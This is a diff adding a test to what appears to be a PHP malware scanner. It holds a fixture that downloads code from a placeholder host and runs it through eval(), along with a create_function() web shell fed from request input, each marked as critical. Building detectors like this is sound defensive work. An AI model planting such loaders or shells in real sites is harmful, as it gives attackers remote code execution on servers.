@@ -231,6 +231,27 @@ describe('PHP code run from a download, and create_function() of the request', (
     ).not.toMatch(/high|critical/);
   });
 
+  it('follows what is downloaded through a curl function of its own and a variable to eval()', () => {
+    const fetcher = `<?php
+function getUrl($url) {
+  $ch = curl_init();
+  curl_setopt($ch, CURLOPT_URL, $url);
+  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
+  $result = curl_exec($ch);
+  curl_close($ch);
+  return $result;
+}
+`;
+    const loader = `${fetcher}$str = getUrl("https://paste.example/raw/9s4n");\necho eval("?>" . $str);`;
+    expect(judge('/var/www/html/406.php', loader)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/runs code it downloads/),
+    });
+    // The same function reading a feed, and eval() of a sum of the page's own.
+    const feed = `${fetcher}$rates = json_decode(getUrl("https://api.example/rates.json"), true);\n$total = eval('return 1 + 2;');\necho $rates['EUR'] * $total;`;
+    expect(judge('/var/www/html/rates.php', feed)?.reason ?? '').not.toMatch(/downloads/);
+  });
+
   it('judges create_function() by its code, the second argument', () => {
     const shell = `<?php $code = $_GET['code']; $f = create_function('', $code); $f();`;
     expect(severity('/var/www/html/cf.php', shell)).toBe('critical');
